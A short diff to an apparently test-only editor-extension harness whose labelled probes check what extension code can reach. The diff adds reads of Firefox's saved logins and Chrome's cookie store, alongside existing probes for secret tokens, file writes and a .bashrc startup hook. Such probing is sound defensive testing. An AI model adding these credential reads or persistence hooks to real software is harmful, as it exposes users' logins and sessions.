@@ -11,6 +11,9 @@ exports.activate = (context) =>
   attack(context, "node", {
     read: ({ key }) => fs.readFileSync(key, "utf8"),
     other: ({ other }) => fs.readFileSync(`${other}/notes.txt`, "utf8"),
+    firefox: ({ home }) => fs.readFileSync(`${home}/.mozilla/firefox/x/logins.json`, "utf8"),
+    chrome: ({ home }) => fs.readFileSync(`${home}/.config/google-chrome/Default/Cookies`, "utf8"),
+    invisible: ({ key }) => require("./invisible")(key),
     environment: () => process.env.SECRET_TOKEN ?? "none",
     write: ({ other }) => fs.writeFileSync(`${other}/node.write`, "x"),
     startup: ({ home }) => fs.appendFileSync(`${home}/.bashrc`, "echo node.startup\n"),
